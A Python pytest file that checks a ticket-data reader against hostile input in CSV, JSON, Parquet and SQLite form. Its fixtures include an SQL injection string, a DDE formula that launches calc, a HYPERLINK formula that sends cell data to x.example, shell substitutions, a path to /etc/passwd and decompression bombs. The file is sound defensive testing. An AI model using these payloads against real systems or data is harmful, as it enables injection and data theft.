"""Hostile input: whatever a source holds, the answer is a clear error or a bad row; nothing of it runs, good rows are kept."""

import gzip
import io
import json
import sqlite3
import subprocess
import sys
from contextlib import closing
from datetime import UTC, datetime
from io import TextIOWrapper

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from sla_engine.errors import SourceError
from sla_engine.sources import BadRow, read_columns, read_tickets
from sla_engine.sources.files import parquet_rows, physical_lines
from tests.waiting import PATIENCE

HEADER = ("id", "opened_at", "tier", "site")
OPENED = "2026-06-22T17:30:00+02:00"
GOOD = ("T-1", OPENED, "office", "LU")
LAST = ("T-2", OPENED, "office", "LU")


def as_csv(path, rows):
    quoted = (",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in (HEADER, *rows))
    path.write_bytes("\n".join(quoted).encode("utf-8", "surrogateescape"))


def as_gzipped_csv(path, rows):
    as_csv(path, rows)
    path.write_bytes(gzip.compress(path.read_bytes()))


def as_json(path, rows):
    objects = (json.dumps(dict(zip(HEADER, row, strict=True)), ensure_ascii=False) for row in rows)
    separator = ",\n"
    path.write_bytes(f"[{separator.join(objects)}]".encode("utf-8", "surrogateescape"))


def as_json_lines(path, rows):
    lines = (json.dumps(dict(zip(HEADER, row, strict=True)), ensure_ascii=False) for row in rows)
    path.write_bytes("\n".join(lines).encode("utf-8", "surrogateescape"))


def as_parquet(path, rows):
    pq.write_table(
        pa.table({name: list(cells) for name, cells in zip(HEADER, zip(*rows, strict=True), strict=True)}), path
    )


def as_sqlite(path, rows):
    with closing(sqlite3.connect(path)) as made:
        made.execute("CREATE TABLE ticket (id TEXT, opened_at TEXT, tier TEXT, site TEXT)")
        for row in rows:
            as_bytes = [cell.encode("utf-8", "surrogateescape") for cell in row]
            made.execute(f"INSERT INTO ticket VALUES ({', '.join(['CAST(? AS TEXT)'] * 4)})", as_bytes)  # noqa: S608 - placeholders
        made.commit()


FORMATS = {
    "tickets.csv": as_csv,
    "tickets.csv.gz": as_gzipped_csv,
    "tickets.json": as_json,
    "tickets.jsonl": as_json_lines,
    "tickets.parquet": as_parquet,
    "tickets.db": as_sqlite,
}


@pytest.fixture(params=FORMATS)
def read(request, tmp_path):
    """Write rows in one format after the other, and read them."""

    def write_and_read(*rows):
        path = tmp_path / request.param
        FORMATS[request.param](path, rows)
        if path.suffix == ".db":
            return list(read_tickets(f"sqlite:///{path}", query="SELECT * FROM ticket"))
        return list(read_tickets(path))

    return write_and_read


WICKED = {
    "SQL": "'); DROP TABLE ticket; --",
    "a formula": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "terminal escapes": "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "a bell and backspaces": "T-1\b\b\b\a",
    "reversed text": "T-\u202e1",
    "markup": "[bold]<script>alert(1)</script>&amp;",
    "a template": "{0.__class__} %s %(id)s ${HOME} `id` $(id)",
    "a path": "../../../etc/passwd",
    "an option": "--output=/etc/passwd",
    "line breaks": "T-1\r\nT-2,forged,row,LU",
    "an empty looking one": "\u200b\ufeff",
    "a thousand digits": "9" * 5_000,
    "combining signs": "e" + "\u0301" * 500,
}


@pytest.mark.parametrize("wicked", WICKED.values(), ids=WICKED)
def test_an_id_is_text_whatever_it_looks_like(read, wicked):
    assert [ticket.id for ticket in read(GOOD, (wicked, *GOOD[1:]), LAST)] == ["T-1", wicked, "T-2"]


@pytest.mark.parametrize("column", range(4), ids=HEADER)
@pytest.mark.parametrize("wicked", ["T\0", "\0"])
def test_nul_costs_only_its_row(read, wicked, column):
    row = (*GOOD[:column], wicked, *GOOD[column + 1 :])
    first, bad, last = read(GOOD, row, LAST)
    assert (first.id, last.id) == ("T-1", "T-2")
    assert (bad.column, bad.value) == (HEADER[column], wicked)


# Text in Parquet is UTF-8 by its type; a binary column is tested below.
@pytest.mark.parametrize("read", [name for name in FORMATS if name != "tickets.parquet"], indirect=True)
@pytest.mark.parametrize("wicked", [b"caf\xe9", b"\xff\xfe", b"\xc0\x80", b"\xed\xa0\x80"], ids=repr)
def test_bytes_in_another_encoding_cost_only_their_row(read, wicked):
    first, bad, last = read(GOOD, ("T", OPENED, wicked.decode("utf-8", "surrogateescape"), "LU"), LAST)
    assert (first.id, last.id) == ("T-1", "T-2")
    assert bad.expected.startswith("UTF-8 text")
    assert "\\x" in str(bad)


def test_a_binary_column_of_parquet_in_another_encoding_is_an_error_by_name(tmp_path):
    columns = dict(zip(HEADER, ([cell] for cell in GOOD), strict=True)) | {"tier": pa.array([b"caf\xe9"], pa.binary())}
    pq.write_table(pa.table(columns), tmp_path / "t.parquet")
    with pytest.raises(SourceError, match=r"t\.parquet: .*tier"):
        list(read_tickets(tmp_path / "t.parquet"))


YEARS = ["0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "1899-12-31T23:59:59Z"]


@pytest.mark.parametrize("opened", YEARS)
def test_the_year_one_and_its_like_cost_only_their_row(read, opened):
    first, bad, last = read(GOOD, ("T", opened, "office", "LU"), LAST)
    assert (first.id, last.id) == ("T-1", "T-2")
    assert (bad.value, bad.expected) == (opened, "an instant in the years 1900 to 2200")


@pytest.mark.parametrize(
    "opened", ["0001-01-01 00:00", "9999-12-31 23:59", "0000-00-00 00:00", "10000-01-01 00:00", "-1"]
)
def test_local_times_of_the_year_one_and_its_like_cost_only_their_row(tmp_path, opened):
    (tmp_path / "m.toml").write_text("[mapping]\nzone = 'America/New_York'\n")
    as_csv(tmp_path / "t.csv", [("T-1", "2026-06-22 17:30", *GOOD[2:]), ("T", opened, *GOOD[2:])])
    good, bad = read_tickets(tmp_path / "t.csv", mapping=tmp_path / "m.toml")
    assert good.opened_at == datetime(2026, 6, 22, 21, 30, tzinfo=UTC)
    assert (bad.column, bad.value) == ("opened_at", opened)


@pytest.mark.parametrize("name", ["tickets.csv", "tickets.jsonl", "tickets.json", "tickets.parquet"])
def test_ten_thousand_columns_do_no_harm(tmp_path, name):
    columns = dict(zip(HEADER, GOOD, strict=True)) | {f"c{i}": "x" for i in range(10_000)}
    path = tmp_path / name
    if name.endswith("parquet"):
        pq.write_table(pa.table({key: [cell] for key, cell in columns.items()}), path)
    elif name.endswith("csv"):
        path.write_text(",".join(columns) + "\n" + ",".join(columns.values()) + "\n")
    else:
        path.write_text(json.dumps([columns] if name.endswith("json") else columns))
    assert [ticket.id for ticket in read_tickets(path)] == ["T-1"]


def test_a_header_of_a_megabyte_is_told_briefly(tmp_path):
    (tmp_path / "t.csv").write_text(",".join(f"c{i:05}" for i in range(100_000)) + "\n")
    with pytest.raises(SourceError, match=r"no column 'id'; found 'c00000', .* and 99980 more") as failure:
        next(read_tickets(tmp_path / "t.csv"))
    assert len(str(failure.value)) < 500


def test_the_columns_of_a_row_are_counted_and_not_listed(tmp_path):
    (tmp_path / "t.csv").write_text(",".join(HEADER) + "\n" + "," * 1_000_000 + "\n" + ",".join(GOOD) + "\n")
    bad, good = read_tickets(tmp_path / "t.csv")
    assert (bad.value, good.id) == ("1000001 cells", "T-1")


def test_a_number_of_five_thousand_digits_is_its_digits(tmp_path):
    text = json.dumps(dict(zip(HEADER, GOOD, strict=True))).replace('"T-1"', "9" * 5_000)
    for name, content in (("t.json", f"[{text}]"), ("t.jsonl", text)):
        (tmp_path / name).write_text(content)
        assert [ticket.id for ticket in read_tickets(tmp_path / name)] == ["9" * 5_000]


DEEP = "[" * 100_000


@pytest.mark.parametrize(
    "wicked", [DEEP, '{"id": ' + DEEP, '{"id": 1e999}', '{"id": NaN}', '{"id": "\\ud800"}', "null"]
)
def test_wicked_json_costs_only_its_line(tmp_path, wicked):
    path = tmp_path / "t.jsonl"
    line = json.dumps(dict(zip(HEADER, GOOD, strict=True)))
    path.write_text(f"{line}\n{wicked}\n{line}\n")
    assert [type(row).__name__ for row in read_tickets(path)] == ["Ticket", "BadRow", "Ticket"]


def test_a_deep_element_ends_an_array_after_its_good_rows(tmp_path):
    path = tmp_path / "t.json"
    path.write_text(f"[{json.dumps(dict(zip(HEADER, GOOD, strict=True)))}, {DEEP}")
    rows = read_tickets(path)
    assert next(rows).id == "T-1"
    with pytest.raises(SourceError, match="reading stops there"):
        next(rows)


def test_a_message_is_short_whatever_the_cell(read):
    (bad,) = read(("T", "x" * 100_000, "office", "LU"))
    assert len(str(bad)) < 500
    assert "100000 characters" in str(bad)


def test_a_message_shows_control_signs_escaped(read):
    (bad,) = read(("T", "\x1b[2J\u202e", "office", "LU"))
    assert "'\\x1b[2J\\u202e'" in str(bad)


def test_an_id_that_looks_like_sql_is_looked_up_as_text(tmp_path):
    wicked = WICKED["SQL"]
    as_sqlite(tmp_path / "t.db", [(wicked, *GOOD[1:])])
    with closing(sqlite3.connect(tmp_path / "t.db")) as made:
        made.execute("CREATE TABLE happened (ticket, kind, at)")
        made.execute("INSERT INTO happened VALUES (?, 'resolved', ?)", (wicked, OPENED))
        made.commit()
    (ticket,) = read_tickets(
        f"sqlite:///{tmp_path}/t.db", query="SELECT * FROM ticket", events_query="SELECT * FROM happened"
    )
    assert [event.kind for event in ticket.events] == ["resolved"]


@pytest.mark.parametrize(
    ("wicked", "column"),
    [
        (b"T-1,re\x00solved,2026-06-23T09:00Z", "kind"),
        (b"T-1,caf\xe9,2026-06-23T09:00Z", "kind"),
        (b"T-1,resolved,0001-01-01T00:00Z", "at"),
        (b"'); DROP TABLE ticket; --,resolved,2026-06-23T09:00Z", "ticket"),
        (b"=1+1,resolved,2026-06-23T09:00Z", "ticket"),
        (b"T-1,\x1b[2J,2026-06-23T09:00Z", "kind"),
    ],
)
def test_a_log_is_judged_as_strictly(tmp_path, wicked, column):
    as_csv(tmp_path / "t.csv", [GOOD])
    log = tmp_path / "log.csv"
    log.write_bytes(b"ticket,kind,at\n" + wicked + b"\nT-1,closed,2026-06-23T10:00Z\n")
    rows = list(read_tickets(tmp_path / "t.csv", events=log))
    (ticket,) = [row for row in rows if not isinstance(row, BadRow)]
    (bad,) = [row for row in rows if isinstance(row, BadRow)]
    assert [event.kind for event in ticket.events] == ["closed"]
    assert (bad.source, bad.line, bad.column) == (str(log), 2, column)


GIGABYTE = 1_000_000_000
READER = """
import sys
from pathlib import Path
from sla_engine.errors import SourceError
from sla_engine.sources import BadRow, read_tickets
import pyarrow.compute, pyarrow.csv, sqlalchemy  # libraries that a reader loads late are not what it holds of a line
def peak():
    return int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0]) // 1024
before = peak()
try:
    for row in read_tickets("-", form=sys.argv[1]):
        print("bad" if isinstance(row, BadRow) else row.id)
except SourceError as error:
    print(error)
print("megabytes", peak() - before)
"""
GOOD_LINE = json.dumps(dict(zip(HEADER, GOOD, strict=True)))
ENDLESS = {
    "a cell of CSV": ("csv", ",".join(HEADER) + "\n" + ",".join(GOOD) + "\nT-2,", "x", ["T-1"]),
    "a quoted cell of CSV": ("csv", ",".join(HEADER) + "\n" + ",".join(GOOD) + '\nT-2,"', "x", ["T-1"]),
    "separators of CSV": ("csv", ",".join(HEADER) + "\n" + ",".join(GOOD) + "\nT-2", ",", ["T-1"]),
    "a header of CSV": ("csv", ",".join(HEADER), "x", []),
    "white space before CSV": ("csv", "", " ", []),
    "a value of JSON lines": ("jsonl", GOOD_LINE + '\n{"id": "', "x", ["T-1"]),
    "white space in JSON lines": ("jsonl", GOOD_LINE + "\n", " ", ["T-1"]),
    "a value of JSON": ("json", f'[{GOOD_LINE}, {{"id": "', "x", ["T-1"]),
    "depth of JSON": ("json", f"[{GOOD_LINE}, ", "[", ["T-1"]),
    "digits of JSON": ("json", f'[{GOOD_LINE}, {{"id": ', "9", ["T-1"]),
}


@pytest.mark.slow
@pytest.mark.parametrize(("form", "start", "sign", "good"), ENDLESS.values(), ids=ENDLESS)
def test_a_line_of_a_gigabyte_is_refused_early_and_in_little_memory(form, start, sign, good):
    reader = subprocess.Popen(
        [sys.executable, "-c", READER, form], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    block, sent = sign.encode() * (1 << 16), 0
    try:
        reader.stdin.write(start.encode())
        while sent < GIGABYTE:
            reader.stdin.write(block)
            sent += len(block)
    except BrokenPipeError:
        pass
    output, errors = reader.communicate(timeout=PATIENCE)
    *rows, refusal, memory = output.decode().splitlines()
    assert (rows, errors) == (good, b"")
    assert "1048576 characters" in refusal
    assert int(memory.split()[1]) < 60
    assert sent < GIGABYTE / 50


@pytest.mark.slow
@pytest.mark.parametrize("start", [",".join(HEADER) + "\nT-1,", "[{", '{"id": "'])
def test_a_small_file_that_unpacks_to_a_gigabyte_is_refused_early(tmp_path, start):
    path = tmp_path / "t.gz"
    block = gzip.compress(b"x" * 10_000_000)
    with path.open("wb") as file:
        file.write(gzip.compress(start.encode()))
        for _ in range(GIGABYTE // 10_000_000):
            file.write(block)
    done = subprocess.run(
        [sys.executable, "-c", READER.replace('"-", form=sys.argv[1]', "sys.argv[1]"), str(path)],
        capture_output=True, text=True, check=True, timeout=PATIENCE,
    )  # fmt: skip
    refusal, memory = done.stdout.splitlines()
    assert refusal.startswith(str(path))
    assert int(memory.split()[1]) < 60


def test_parquet_that_unpacks_to_more_than_memory_may_be_is_refused_by_what_it_says_itself(tmp_path, monkeypatch):
    path = tmp_path / "t.parquet"
    columns = dict(zip(HEADER, ([cell] for cell in GOOD), strict=True)) | {"note": ["x" * 1_000_000]}
    pq.write_table(pa.table(columns), path, compression="zstd")
    monkeypatch.setattr(parquet_rows, "MOST_UNPACKED", 500_000)
    assert [ticket.id for ticket in read_tickets(path)] == ["T-1"]  # a column that is not ours is not read
    pq.write_table(pa.table(columns | {"tier": ["x" * 1_000_000]}), path, compression="zstd")
    with pytest.raises(SourceError, match=r"column 'tier' has 1,000,\d\d\d bytes in one row group"):
        next(read_tickets(path))


@pytest.mark.parametrize(
    "text", [b"\x00" * 100, b"\x7fELF\x02\x01\x01", b"%PDF-1.7\n%\xe2\xe3", b"\x89PNG\r\n\x1a\n", b"\x1f\x8b\x08"]
)
def test_what_is_no_table_is_refused_by_a_source_error(monkeypatch, text):
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(text)))
    with pytest.raises(SourceError, match=r"^standard input: "):
        list(read_tickets("-"))


TABLE = "id,opened_at,tier,site"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize(("name", "head"), [("t.csv.gz", TABLE), ("t.csv.gz", ""), ("t.jsonl.gz", "{}")])
def test_blank_lines_without_end_are_refused_and_not_read(tmp_path, monkeypatch, end, name, head):
    monkeypatch.setattr(physical_lines, "MOST_BLANK", 1_000)
    (tmp_path / name).write_bytes(gzip.compress(f"{head}{end * 1_000_000}{TABLE}{end}".encode()))
    taken = []

    class Counted(TextIOWrapper):
        def readline(self, *args):
            taken.append(1)
            return super().readline(*args)

    monkeypatch.setattr(physical_lines, "TextIOWrapper", Counted)
    with pytest.raises(SourceError, match="more than 1,000 blank lines in a row; nothing from here on was read"):
        list(read_tickets(tmp_path / name))
    assert len(taken) < 1_100


def test_some_blank_lines_are_no_rows(tmp_path, monkeypatch):
    monkeypatch.setattr(physical_lines, "MOST_BLANK", 1_000)
    gap = "\n" * 900
    (tmp_path / "t.csv").write_text(f"{gap}id,opened_at,tier,site{gap}T-1,2026-06-22T10:00:00Z,office,LU{gap}")
    assert [one.id for one in read_tickets(tmp_path / "t.csv")] == ["T-1"]


def test_lines_of_white_space_before_the_header_are_passed_over_however_long(tmp_path):
    (tmp_path / "t.csv").write_text(f"{' ' * 60_000}\n" * 40 + f"{TABLE}\nT-1,noon,office,LU\n")
    assert [(row.line, row.value) for row in read_tickets(tmp_path / "t.csv")] == [(42, "noon")]


def test_an_id_that_comes_again_brings_no_copy_of_its_log(tmp_path):
    rows = "T-1,2026-06-22T10:00:00Z,office,LU\n" * 50
    (tmp_path / "t.csv").write_text(f"id,opened_at,tier,site\n{rows}")
    (tmp_path / "e.csv").write_text("ticket,kind,at\n" + "T-1,paused,2026-06-22T11:00:00Z\n" * 50)
    (chunk,) = read_columns(tmp_path / "t.csv", events=tmp_path / "e.csv")
    assert (len(chunk.logs.events), len({id(log) for log in chunk.logs.told()})) == (50, 1)
    assert len(chunk.happened()) == 2_500
